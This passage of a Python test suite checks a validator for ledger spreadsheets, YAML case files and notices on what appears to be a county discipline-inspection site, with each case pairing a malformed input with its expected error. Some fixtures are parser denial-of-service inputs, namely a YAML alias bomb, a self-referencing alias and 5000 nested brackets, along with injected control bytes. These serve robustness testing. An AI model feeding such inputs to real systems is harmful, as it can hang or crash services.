# a workbook, not as a CSV in an unknown encoding
d('ledger-old-workbook-named-csv', {L: b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(range(256)) * 2}, [(L, 1, 'csv-is-old-workbook')])
d('file-unknown-in-data', {'data/备注.txt': '这个月的情况另行报告。\n'}, [('data/备注.txt', 1, 'file-unknown')])
d('file-unknown-in-site-config', {'site_config/menu.yml': 'a: 1\n'}, [('site_config/menu.yml', 1, 'file-unknown')])
d('file-excel-lock-file-is-info', {'data/ledger/~$台账.xlsx': b'\x0ejunk'}, [('data/ledger/~$台账.xlsx', 1, 'file-ignored')])
d('notice-draft-outside-notices-folder', {'content/drafts/2026-06-draft.md': rep(notice, 'category: 通报', 'category: 通报\ndraft: 是')},
  [('content/drafts/2026-06-draft.md', 1, 'notice-outside-folder')])
LH = ledger.split('\n')[0].split(',')
def lrow(i, unit='XZ01', status='整改中'):
    return [f'XL-{i}', unit, 'B2', f'问题{i}', '措施', '目标', '2026-04-01', '2026-06-30', '书记', '主任', '限期整改', status, None]
# a sheet of other columns (a summary the clerk keeps beside the ledger): not read, named
d('xlsx-second-sheet-of-other-columns', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)], '汇总': [['单位', '问题数', '已销号'], ['东城镇', '1', '1']]})},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-extra-sheet')])
d('xlsx-rows-on-a-second-sheet', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)], '第二批': [LH, lrow(2)]})},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-sheets-same-columns')])
d('xlsx-instructions-sheet-is-not-data', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)], '填表说明': [['编号', '台账条目编号']]})}, [])
# the instructions sheets of clerks' own templates (填表须知, 注意事项, 填报要求 …), text in
# the first columns: read as instructions, not refused as a sheet of data (they were)
_told = [['填报须知'], ['一、编号按“XL-序号”填写，不得重复。'], ['二、单位、问题类别从下拉列表中选择。', '（必填）'], [None, '三、整改时限写年月日，如 2026-06-30。']]
d('xlsx-instructions-sheets-by-any-such-name-are-not-data', {'data/ledger/东城镇.xlsx': xlsx({
    '填表须知': _told, '台账': [LH, lrow(1)], '注意事项 ': _told, '填报要求（2026版）': _told, '指标解释': [['编号', '单位', '备注'], ['台账条目编号', '责任单位全称', '可不填']]})}, [])
# a sheet named as instructions that holds the table's rows is still a table: never
# passed over as text (rows pasted into 填表说明 were silently not read); and every other
# sheet of a workbook is named in one message, not one a sheet
d('xlsx-instructions-sheet-holding-the-table-is-a-table', {'data/ledger/东城镇.xlsx': xlsx({
    '台账': [LH, lrow(1)], '填表说明': [['填表说明'], LH, lrow(2)], '说明': [['编号', '单位', '问题类别'], ['XL-3', 'XZ01', 'B2']]})},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-extra-sheet'), ('data/ledger/东城镇.xlsx', 1, 'xlsx-sheets-same-columns')])
d('xlsx-instructions-sheet-holding-the-chinese-header-is-a-table', {'data/ledger/东城镇.xlsx': xlsx({
    '台账': [LH, lrow(1)], '填报说明': [['编号', '单位', '问题类别', '问题表现', '整改措施', '整改目标', '建账日期', '整改时限', '牵头领导', '责任人', '整改类型', '整改状态', '销号日期'], lrow(2)]})},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-sheets-same-columns')])
d('xlsx-other-sheets-are-one-problem', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)], '汇总': [['单位', '问题数', '已销号'], ['东城镇', '1', '1']],
    '统计': [['类别', '数量'], ['B2', '1']], '草稿': [['随手记', '东城镇']]})},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-extra-sheet')])

# ---- values never silently dropped or changed
t = '\n'.join(r + ',' for r in units.strip().split('\n')) + '\n'
t = rep(t, 'XW01,县委办公室,县委部门,县直机关工委,否,否,否,', 'XW01,县委办公室,县委部门,县直机关工委,否,否,否,联系人王某')
d('csv-column-without-header-holds-data', {U: t}, [(U, 3, 'table-headerless-column')])
def formula(book):
    book['台账']['D3'] = '=D2&"（续）"'
d('xlsx-formula-without-stored-result', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, formula)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-formula-no-value')])
def array_and_arithmetic_formulas(book):
    # a workbook a script wrote (or WPS saved without recalculating): the formulas have no
    # results; an array formula (Ctrl+Shift+Enter) is an object to openpyxl, not "=…" text
    from openpyxl.worksheet.formula import ArrayFormula
    book['检查']['F2'] = '=SUM(F3:F9)*0.5'
    book['检查']['F3'] = ArrayFormula('F3', '=SUM(LEN(G2:G3))')
_insp_rows = [line.split(',') for line in insp.strip().split('\n')]
d('xlsx-arithmetic-and-array-formulas-without-results', {'data/inspections.xlsx': xlsx({'检查': _insp_rows}, array_and_arithmetic_formulas)},
  [('data/inspections.xlsx', 2, 'xlsx-formula-no-value-rows')], remove=[I])
def hide(book):
    book['台账'].row_dimensions[3].hidden = True
d('xlsx-hidden-row-is-not-published-silently', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2), lrow(3)]}, hide)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-hidden-row')])
def comment_a_phone(book):
    # a clerk's note on a cell (右键→插入批注): not a row, not a page, yet kept in the repository
    from openpyxl.comments import Comment
    book['台账']['D3'].comment = Comment('群众来电 13812345678 反映', '填报人')
d('xlsx-phone-in-a-cell-comment', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, comment_a_phone)},
  [('data/ledger/东城镇.xlsx', 3, 'personal-data-in-cell-comment')])
def packed(data):
    """The workbook's parts deflated (openpyxl stores them as they are), with fixed times."""
    import io, zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), old.read(info),
                         compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()
def comment_too_long_to_read(book):
    # 9 MB of comments unpacked (a pasted file in a 批注): more than is read for personal
    # data, so said, not passed over (it packs to a few KB)
    from openpyxl.comments import Comment
    book['台账']['D2'].comment = Comment('情况说明' * 750_000, '填报人')
d('xlsx-comments-too-large-to-read', {'data/ledger/东城镇.xlsx': packed(xlsx({'台账': [LH, lrow(1)]}, comment_too_long_to_read))},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-comments-too-large')])
# an Excel 365 threaded comment (批注会话) part cut short beside a legacy 批注 with a phone:
# openpyxl never reads threaded comments, so it did not refuse the workbook, and the broken
# part dropped every comment of the workbook from the personal-data check (the phone too)
def broken_threaded_comment(data):
    import io, zipfile
    rel = (b'<Relationship Id="rTc" Type="http://schemas.microsoft.com/office/2017/10/relationships/threadedComment" '
           b'Target="../threadedComments/threadedComment1.xml"/></Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info)
            if info.filename == 'xl/worksheets/_rels/sheet1.xml.rels':
                part = part.replace(b'</Relationships>', rel, 1)
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
        dst.writestr(zipfile.ZipInfo('xl/threadedComments/threadedComment1.xml', (2026, 1, 1, 0, 0, 0)),
                     b'<?xml version="1.0" encoding="UTF-8"?><ThreadedComments xmlns="http://schemas.microsoft.com/office/'
                     b'spreadsheetml/2018/threadedcomments"><threadedComment ref="C3" id="{1}"><text>\xe7\xbe\xa4\xe4')
    return out.getvalue()
d('xlsx-broken-threaded-comments-part-is-said-and-the-others-read', {'data/ledger/东城镇.xlsx': broken_threaded_comment(
    xlsx({'台账': [LH, lrow(1), lrow(2)]}, comment_a_phone))},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-comments-unreadable'), ('data/ledger/东城镇.xlsx', 3, 'personal-data-in-cell-comment')])
def hide_column(book):
    book['台账'].column_dimensions['J'].hidden = True
d('xlsx-hidden-column', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)]}, hide_column)},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-hidden-column')])
def hide_unused_columns(book):
    # the tidy sheet: every unused column to the sheet's end (N:XFD) hidden; nothing in
    # them to name, and the check must not look at 16,371 columns of every row
    book['台账'].column_dimensions.group('N', 'XFD', hidden=True)
d('xlsx-unused-columns-hidden-to-the-end-is-fine', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH] + [lrow(n) for n in range(1, 41)]}, hide_unused_columns)}, [])
t = rep(camp, 'report_due_day: 5', 'report_due_day: 32')
d('campaign-report-due-day-32', {CP: t}, [(CP, line_of(t, 'report_due_day'), 'out-of-range')])
t = rep(camp, 'report_due_day: 5', 'report_due_day: 0')
d('campaign-report-due-day-0', {CP: t}, [(CP, line_of(t, 'report_due_day'), 'out-of-range')])
t = rep(camp, 'inspection_rate: 2', 'inspection_rate: 40')
d('campaign-inspection-rate-40', {CP: t}, [(CP, line_of(t, 'inspection_rate'), 'out-of-range')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: ~')
d('case-title-null', {C: t}, [(C, 3, 'missing-field')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', "title: ''")
d('case-title-empty-quotes', {C: t}, [(C, 3, 'missing-field')])
t = rep(case, 'categories: [A3]', 'categories: []')
d('case-categories-empty-list', {C: t}, [(C, 6, 'empty-list')])
t = rep(case, 'categories: [A3]', 'categories: [~]')
d('case-categories-list-of-null', {C: t}, [(C, 6, 'empty-list')])
i, j = camp.index('phases:\n'), camp.index('collection:\n')
t = camp[:i] + 'phases: []\n' + camp[j:]
d('campaign-phases-empty', {CP: t}, [(CP, line_of(t, 'phases: []'), 'empty-list')])

# ---- identity: ids are unique case-insensitively and after NFKC; reserved ids
t = units + 'xz01,西河乡,乡镇,县委办公室,否,否,否\n'
d('csv-unit-id-differs-only-in-case', {U: t}, [(U, 6, 'duplicate-id-case')])
t = units + 'ＸＺ０１,西河乡,乡镇,县委办公室,否,否,否\n'
d('csv-unit-id-full-width-duplicate', {U: t}, [(U, 6, 'duplicate-id')])
t = units + 'XZ02,东城镇 ,乡镇,县委办公室,否,否,否\nXZ03,ＸＸ镇,乡镇,县委办公室,否,否,否\nXZ04,xx镇,乡镇,县委办公室,否,否,否\n'
d('csv-unit-name-differs-only-in-width', {U: t}, [(U, 6, 'duplicate-record'), (U, 8, 'duplicate-record')])
t = rep(case, 'id: 2026-001', 'id: index')
d('case-id-index', {C: t}, [(C, 1, 'reserved-id')])
t = rep(case, 'id: 2026-001', 'id: Page-2')
d('case-id-page-2', {C: t}, [(C, 1, 'reserved-id')])
t = rep(case, 'id: 2026-001', 'id: category')
d('case-id-is-a-listing-folder', {C: t}, [(C, 1, 'reserved-id')])
t = units + 'KIND-XZ,西河乡,乡镇,县委办公室,否,否,否\n'
d('csv-unit-id-kind-prefix', {U: t}, [(U, 6, 'reserved-id')])
d('notice-file-named-index', {'content/notices/INDEX.md': notice}, [('content/notices/INDEX.md', 2, 'reserved-id')], remove=(N,))
# a name Windows keeps for a device is no file or folder name on a clerk's computer or a Windows server
d('notice-file-named-as-a-windows-device', {'content/notices/nul.md': notice}, [('content/notices/nul.md', 1, 'windows-device-name')], remove=(N,))
t = notice.replace('---\n\n', 'attachments:\n  - file: Aux.xlsx\n    title: 名单\n---\n\n', 1)
d('notice-attachment-named-as-a-windows-device', {N: t, 'content/notices/files/Aux.xlsx': (REPO / 'content/notices/files/2026-c1-late-units.xlsx').read_bytes()}, [(N, line_of(t, '\nattachments:') + 1, 'notice-attachment-not-frozen'), (N, line_of(t, '  - file: Aux.xlsx'), 'windows-device-name')])
d('csv-unit-id-is-a-windows-device', {U: units + 'COM1,县档案馆,政府部门,县监委,否,否,否\n'}, [(U, 6, 'windows-device-name')])
d('case-id-differs-only-in-case', {'data/cases/2026-001b.yml': rep(case2, 'id: 2026-002', 'id: 2026-001B'),
                                   'data/cases/2026-001c.yml': rep(case2, 'id: 2026-002', 'id: 2026-001b')},
  [('data/cases/2026-001c.yml', 1, 'duplicate-id-case'), ('data/cases/2026-001c.yml', 1, 'file-name-not-id-taken')])
t = rep(tax, '{id: A2, name: 履行职责不担当', '{id: a1, name: 履行职责不担当')
d('taxonomy-category-id-differs-only-in-case', {TP: t}, [(TP, line_of(t, '{id: a1, name: 履行职责不担当'), 'duplicate-id-case')])

# ---- crashes and hangs: every one a located problem
t = case + 'a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n'
d('yaml-alias-bomb', {C: t}, [(C, 19, 'unknown-field'), (C, 20, 'unknown-field'), (C, 20, 'yaml-alias'), (C, 21, 'unknown-field'), (C, 21, 'yaml-alias'), (C, 22, 'unknown-field'), (C, 22, 'yaml-alias')])
t = case + 'r: &r [*r]\n'
d('yaml-alias-to-itself', {C: t}, [(C, 19, 'unknown-field'), (C, 19, 'yaml-alias')])
t = case + 'deep: ' + '[' * 5000 + ']' * 5000 + '\n'
d('yaml-5000-nested-brackets', {C: t}, [(C, 19, 'yaml-too-deep')])
t = case + 'deep:\n' + ''.join('  ' * k + f'k{k}:\n' for k in range(1, 60))
d('yaml-60-nested-mappings', {C: t}, [(C, 19 + 39, 'yaml-too-deep')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改\x1b[31m。')
d('yaml-esc-byte-in-value', {C: t}, [(C, 15, 'control-character')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令\x00整改。')
d('yaml-nul-byte-in-value', {C: t}, [(C, 15, 'control-character')])
t = notice + '\n第二段\x07提醒。\n'
d('notice-bell-in-body', {N: t}, [(N, 24, 'control-character')])
t = rep(ledger, '审批时限长', '审批时限\x00长')
d('csv-nul-byte-in-cell', {L: t}, [(L, 3, 'control-character')])

# ---- lines counted as editors count them
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\u2028群众多次反映。\n')
t = rep(t, 'rank: 一般干部', 'rank: 科员')
d('yaml-u2028-does-not-shift-lines', {C: t}, [(C, 9, 'control-character'), (C, 12, 'bad-enum')])
t = rep(case, '推诿扯皮。\n', '推诿扯皮。\x0b群众多次反映。\x0b\n')
t = rep(t, 'source: 群众举报', 'source: 网络举报')
t = rep(t, 'rank: 一般干部', 'rank: 科员')
d('yaml-vertical-tab-does-not-shift-lines', {C: t}, [(C, 7, 'unknown-reference'), (C, 9, 'control-character'), (C, 12, 'bad-enum')])
t = rep(case, 'title: 东城镇', 'title: 东城镇\x85')
t = rep(t, 'kind: 通报曝光', 'kind: 通报')
d('yaml-next-line-char-u0085', {C: t}, [(C, 3, 'control-character')])
t = rep(case, 'source: 群众举报', 'source：群众举报')
d('yaml-fullwidth-colon-after-key', {C: t}, [(C, 7, 'yaml-fullwidth-colon')])
t = rep(case, 'outcome: 责令整改。', 'outcome：责令整改。')
d('yaml-fullwidth-colon-on-the-last-field', {C: t.replace('followups:\n  - date: 2026-06-10\n    text: 已整改到位。\n', '')}, [(C, 15, 'yaml-fullwidth-colon')])
t = rep(case, '    position: 办事员', '\u3000\u3000position: 办事员')
d('yaml-ideographic-space-indentation', {C: t}, [(C, 13, 'yaml-fullwidth-space')])
t = rep(ledger, '一次性告知不到位', '"一次性告知不到位，\n当事人电话 13912345678"')
t = rep(t, '迟到早退,考勤通报,不再发生,2026-04-03,2026-04-18', '迟到早退,考勤通报,不再发生,2026-04-03,2026-03-18')
d('csv-multiline-cell-reported-at-its-row', {L: t}, [(L, 2, 'personal-phone'), (L, 5, 'date-order')])
t = rep(case, 'outcome: 责令整改。', 'outcome: "责令整改。\n  联系电话 13912345678"')
d('yaml-double-quoted-multiline-value', {C: t}, [(C, 15, 'personal-phone')])
t = rep(case, 'outcome: 责令整改。', 'outcome: >\n  责令整改。\n  联系电话 13912345678\n  已办结。')
t = rep(t, '  - date: 2026-06-10', '  - date: 2026-04-10')
d('yaml-folded-value', {C: t}, [(C, 16, 'personal-phone'), (C, 20, 'date-order')])
t = rep(case, 'facts: |\n  2026年4月，', 'facts: |\n\n  经查，\n  群众电话 13912345678。\n  2026年4月，')
d('yaml-literal-block-with-blank-first-line', {C: t}, [(C, 11, 'personal-phone')])

# ---- wrong words: the right problem, the rest of the file still read
t = rep(ledger, '一次性告知不到位', '"' + '很长' * 500000 + '"')
t = rep(t, '限期整改,整改中', '限期整改,整改完成')
d('csv-million-character-cell', {L: t}, [(L, 2, 'cell-too-long'), (L, 3, 'bad-enum-unclear')])
d('csv-renamed-to-xlsx', {'data/reports.xlsx': reports}, [('data/reports.xlsx', 1, 'xlsx-not-a-workbook')], remove=[R])
d('xlsx-renamed-to-csv', {R: xlsx({'Sheet1': [['unit', 'period', 'submitted_on'], ['XZ01', '2026-04', '2026-05-03']]})}, [(R, 1, 'csv-is-workbook')])
lrows = [line.split(',') for line in ledger.strip().split('\n')]
# an empty Sheet1 left before the data sheet holds nothing: the sheet after it is read
d('xlsx-empty-first-sheet-is-skipped', {'data/ledger/台账.xlsx': xlsx({'Sheet1': [], '台账': lrows})}, [], remove=[L])
# a template never filled in whose 选项 sheet was unhidden: the lists are not the data
d('xlsx-empty-template-with-its-lists-sheet-shown', {'data/ledger/台账.xlsx': xlsx({'台账': [], '选项': [['整改类型', '整改状态'], ['限期整改', '整改中'], ['长期整改', '已销号']]})},
  [('data/ledger/台账.xlsx', 1, 'file-empty'), ('data/ledger/台账.xlsx', 1, 'xlsx-extra-sheet')], remove=[L])
# one table split by month into sheets with the same header: named as such, with the way
# out (one sheet, or one file a month in the ledger folder), not a bare extra sheet
d('xlsx-table-split-by-month-into-sheets', {'data/ledger/台账.xlsx': xlsx({'4月': [lrows[0], lrows[1], lrows[3]], '5月': [lrows[0], lrows[2]]}),
                                            'data/units.xlsx': xlsx({'一季度': [u.split(',') for u in units.strip().split('\n')[:3]], '二季度': [u.split(',') for u in units.strip().split('\n')[:1] + units.strip().split('\n')[3:]]})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-columns'), ('data/units.xlsx', 1, 'xlsx-sheets-same-columns')], remove=[L, U])
# a month's sheet that added a remark column is still the same table, said as one with
# the columns that differ; a table read from one file split into files by month is said
# as a part of that table (join its rows; or take the name when the table's file is gone)
d('table-split-by-month-into-files-and-sheets-with-another-column', {
    'data/ledger/台账.xlsx': xlsx({'一月': [lrows[0], lrows[1], lrows[3]], '二月': [lrows[0] + ['备注'], lrows[2] + ['已约谈']]}),
    'data/reports-2026-06.csv': reports.split('\n')[0] + '\nXZ01,2026-06,2026-07-03,否\n',
    'data/warnings（二月）.xlsx': xlsx({'Sheet1': [l.split(',') for l in warn.strip().split('\n')]})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-columns'), ('data/reports-2026-06.csv', 1, 'file-table-part'),
   ('data/warnings（二月）.xlsx', 1, 'file-table-part')], remove=[L, W])
# a ledger kept as a copy a month (台账-2026-06.csv copied from 台账-2026-05.csv and updated,
# one item added): one problem naming both files, not a duplicate-id on every row; a file
# sharing one id with another (a typing slip) keeps its duplicate-id
_june = rep(ledger, '限期整改,整改中,', '限期整改,已销号,2026-06-20') + 'TZ-4,XZ01,B2,窗口人员缺岗,排班公示,不再缺岗,2026-06-02,2026-07-31,党委书记,办公室主任,限期整改,整改中,\n'
d('ledger-kept-as-a-copy-a-month-is-one-problem', {'data/ledger/台账-2026-05.csv': ledger, 'data/ledger/台账-2026-06.csv': _june,
    'data/ledger/东城镇.csv': ledger.split('\n')[0] + '\nTZ-3,XZ01,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\nTZ-9,XZ01,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\nTZ-8,XZ01,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\n'},
  [('data/ledger/台账-2026-05.csv', 4, 'duplicate-id'), ('data/ledger/台账-2026-06.csv', 2, 'table-file-repeats')], remove=[L])
# / — 无(。) typed in free-text columns for "nothing here": they were published as the item's
# 整改目标, 责任人 and 处理结果; each is value-placeholder as in a date or option column
# (the same mark on more rows is value-again). 主要问题：无 (no problem found) is an answer.
t = rep(rep(rep(ledger, ',群众满意,', ',/,'), ',时限减半,', ',/,'), ',副主任,', ',无。,')
d('text-placeholder-in-free-text-columns', {L: t,
    C: rep(case, 'outcome: 责令整改。', 'outcome: ——'),
    I: rep(insp, ',未发现问题,', ',无,')},
  [(C, 15, 'value-placeholder'), (L, 2, 'value-placeholder'), (L, 3, 'value-again'), (L, 4, 'value-placeholder')])
# last year's months kept as hidden sheets (1月, 2月 hidden after 12月 was added): one problem
# naming them all, not one a sheet
def _hide_old_months(book):
    book['2025年1月'].sheet_state = 'hidden'
    book['2025年2月'].sheet_state = 'hidden'
d('xlsx-hidden-month-sheets-are-one-problem', {'data/ledger/台账.xlsx': xlsx({
    '台账': lrows, '2025年1月': [lrows[0], ['TZ-81'] + lrows[1][1:]], '2025年2月': [lrows[0], ['TZ-82'] + lrows[1][1:]]}, _hide_old_months)},
  [('data/ledger/台账.xlsx', 1, 'xlsx-hidden-sheet')], remove=[L])
# counts under the 万 formats offices use: 0!.0,"万" shows 12345 as 1.2万, #,##0,"万" shows
# 23456 as 23万 (a comma after the digits divides by 1000); the row was refused as an
# unreadable format, and #,##0,"万" was read as “23,456万” (asked to write 234560000).
# The stored number is the exact one typed: read, said once for the file.
def _wan_formats(book):
    book.active['C2'].number_format = '0!.0,"万"'
    book.active['C3'].number_format = '#,##0,"万"'
d('xlsx-count-under-a-wan-format-is-read-as-stored', {'data/totals.xlsx': xlsx({'汇总数': [
    ['period', 'measure', 'count', 'source', 'note'], ['2026年', '追责问责人数', 12345, '演示县纪委通报', None],
    ['2025年', '追责问责人数', 23456, '演示县纪委通报', None]]}, _wan_formats)},
  [('data/totals.xlsx', 2, 'xlsx-number-scaled')], remove=['data/totals.csv'])
# a zero under a format whose zero section is empty (0;-0;;@, #,##0;-#,##0;) shows as an
# empty cell: the clerk sees nothing, the site published 0. Refused at the cell's row with
# the format, one message for the file; a zero shown as 0 or "-" (accounting) is read
def _zero_hidden_formats(book):
    for ref, fmt in (('C2', '0;-0;;@'), ('C3', '#,##0;-#,##0;'), ('C4', '0;-0;"-"'), ('C5', '0;-0;[Red] ;@'), ('C6', '0;-0;0;@')):
        book.active[ref].number_format = fmt
d('xlsx-zero-shown-empty-by-its-format', {'data/totals.xlsx': xlsx({'汇总数': [
    ['period', 'measure', 'count', 'source', 'note'], ['2026年', '追责问责人数', 0, '演示县纪委通报', None],
    ['2025年', '追责问责人数', 0, '演示县纪委通报', None], ['2024年', '追责问责人数', 0, '演示县纪委通报', None],
    ['2023年', '追责问责人数', 0, '演示县纪委通报', None], ['2022年', '追责问责人数', 0, '演示县纪委通报', None]]}, _zero_hidden_formats)},
  [('data/totals.xlsx', 2, 'xlsx-zero-shown-empty-rows')], remove=['data/totals.csv'])
d('xlsx-zero-shown-empty-once', {'data/totals.xlsx': xlsx({'汇总数': [
    ['period', 'measure', 'count', 'source', 'note'], ['2026年', '追责问责人数', 3, '演示县纪委通报', None],
    ['2025年', '追责问责人数', 0, '演示县纪委通报', None]]}, lambda book: [setattr(book.active[r], 'number_format', '0;-0;;@') for r in ('C2', 'C3')])},
  [('data/totals.xlsx', 3, 'xlsx-zero-shown-empty')], remove=['data/totals.csv'])
# G/通用格式 is how a Chinese Excel or WPS writes 常规 (General) into the file, alone or with
# a unit (G/通用格式"人"): the rows were refused as an unreadable format; read as typed
def _general_formats(book):
    book.active['C2'].number_format = 'G/通用格式'
    book.active['C3'].number_format = 'G/通用格式"人"'
d('xlsx-chinese-general-format-is-general', {'data/totals.xlsx': xlsx({'汇总数': [
    ['period', 'measure', 'count', 'source', 'note'], ['2026年', '追责问责人数', 3, '演示县纪委通报', None],
    ['2025年', '追责问责人数', 5, '演示县纪委通报', None]]}, _general_formats)},
  [], remove=['data/totals.csv'])
# dates under the formats a Chinese Excel or WPS offers: e is the year as y is
# (e"年"m"月"d"日" shows 2026年5月1日; it was refused as a date without a year), ;@ ends
# the 中文 date formats, [DBNum1] writes the date in Chinese numerals
def _chinese_date_formats(book):
    import datetime as _dt
    for ref, fmt in (('H2', 'e"年"m"月"d"日"'), ('H3', 'yyyy"年"m"月"d"日";@'), ('H4', '[DBNum1][$-804]yyyy"年"m"月"d"日"')):
        book.active[ref] = _dt.datetime(2026, 6, 30)
        book.active[ref].number_format = fmt
d('xlsx-dates-in-chinese-formats-are-read', {'data/ledger/台账.xlsx': xlsx({'台账': lrows}, _chinese_date_formats)}, [], remove=[L])
# a table split over four sheets, the later ones headed in Chinese (the same columns) and
# one with 备注 added and 销号日期 left out: one problem naming every sheet not read, its
# rows, and what differs by column (the Chinese header was said to differ in every column)
_zh_header = ['编号', '单位', '问题类别', '问题表现', '整改措施', '整改目标', '建账日期', '整改时限', '牵头领导', '责任人', '整改类型', '整改状态', '销号日期']
_month = lambda first, n, header=None: [header or lrows[0]] + [[f'TZ-{first + i}'] + lrows[1][1:] for i in range(n)]
d('xlsx-table-split-over-four-sheets-is-one-problem', {'data/ledger/台账.xlsx': xlsx({
    '4月': lrows, '5月': _month(11, 2), '6月': _month(21, 1, _zh_header),
    '7月': [_zh_header[:-1] + ['备注']] + [r[:-1] + ['已约谈'] for r in _month(31, 3)[1:]]})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-columns')], remove=[L])
# a 汇总 sheet of other columns placed before the month sheets is not read as the data
# (it was: a missing-column for every required field, and each month an extra sheet)
d('xlsx-summary-sheet-before-the-month-sheets', {'data/ledger/台账.xlsx': xlsx({'汇总': [['单位', '问题数', '已销号'], ['东城镇', '1', '1']], '一月': [lrows[0], lrows[1], lrows[2]], '二月': [lrows[0], lrows[3]]})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-extra-sheet'), ('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-columns')], remove=[L])
# two months' blocks pasted into one table: a heading row (五月份) and the header again
# between them are one info each, not a bad-id and a missing-field a column, or a bad
# value in every column; a row holding only an id is a record begun, still refused
_zh = '编号,单位,问题类别,问题表现,整改措施,整改目标,建账日期,整改时限,牵头领导,责任人,整改类型,整改状态,销号日期'
_l = ledger.strip().split('\n')
d('ledger-months-pasted-with-a-heading-and-the-header-again', {L: '\n'.join([_zh, _l[1], '', '五月份,,,,,,,,,,,,', _zh, _l[2], _l[3], 'TZ-9,,,,,,,,,,,,']) + '\n'},
  [(L, 4, 'table-section-row'), (L, 5, 'table-header-again')] + [(L, 8, 'missing-field')] * 8)
def _strict(data):
    """The workbook as Excel's 另存为“Strict Open XML 电子表格” writes it: its parts in the
    ISO Strict namespaces, which openpyxl reads as sheets without content."""
    import io, zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info).replace(b'http://schemas.openxmlformats.org/spreadsheetml/2006/main', b'http://purl.oclc.org/ooxml/spreadsheetml/main')
            part = part.replace(b'http://schemas.openxmlformats.org/officeDocument/2006/relationships', b'http://purl.oclc.org/ooxml/officeDocument/relationships')
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
    return out.getvalue()
# a Strict Open XML workbook was 'empty' (file-empty): named as the format to save again
d('xlsx-saved-as-strict-open-xml', {'data/ledger/台账.xlsx': _strict(xlsx({'台账': lrows}))}, [('data/ledger/台账.xlsx', 1, 'xlsx-not-a-workbook')], remove=[L])
def _table_total_row(book):
    # the 汇总 row an Excel table (套用表格格式) adds, its SUBTOTAL saved without a result
    book['检查'].append(['汇总', None, None, None, None, '=SUBTOTAL(109,F2:F3)', None, None])
d('xlsx-excel-table-total-row-is-skipped', {'data/inspections.xlsx': xlsx({'检查': [line.split(',') for line in insp.strip().split('\n')]}, _table_total_row)},
  [('data/inspections.xlsx', 4, 'table-total-row')], remove=[I])
# the ledger kept as a sheet a month (6月 copied from 5月 and updated): one problem saying
# to keep the newest sheet and delete the others, never to join them (every id repeated)
_june_rows = [r[:] for r in lrows]; _june_rows[2][11] = '已销号'; _june_rows[2][12] = '2026-06-20'
d('xlsx-ledger-kept-as-a-sheet-a-month', {'data/ledger/台账.xlsx': xlsx({'6月': _june_rows, '5月': lrows})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-items')], remove=[L])
# the same kept a sheet a month with each new month added at the right (2026年9月 … 2026年11月):
# one problem naming every other sheet and the newest by name, which is not the one read;
# never read in its place (a month's sheet is often copied ahead before it is updated)
d('xlsx-ledger-sheets-a-month-newest-added-at-the-right', {'data/ledger/台账.xlsx': xlsx({'2026年9月': lrows, '2026年10月': lrows, '2026年11月': _june_rows})},
  [('data/ledger/台账.xlsx', 1, 'xlsx-sheets-same-items')], remove=[L])
# a row under the header giving each column's unit or form, as WPS templates have it:
# one info, not a bad-date for each (年月日) and a missing-field for every other column
_units_line = ',,,,,,（年月日）,(yyyy-mm-dd),,,,,（年月日）'
d('ledger-units-row-under-the-header', {L: rep(ledger, '\n', '\n' + _units_line + '\n')}, [(L, 2, 'table-units-row')])
# counts as reports round them (1.2万, 3千人) and a share (95%) in a count column: each
# said with the exact number to write (12000) or what the column holds, not a bare
# 'not an integer'; 1,200 is 1200
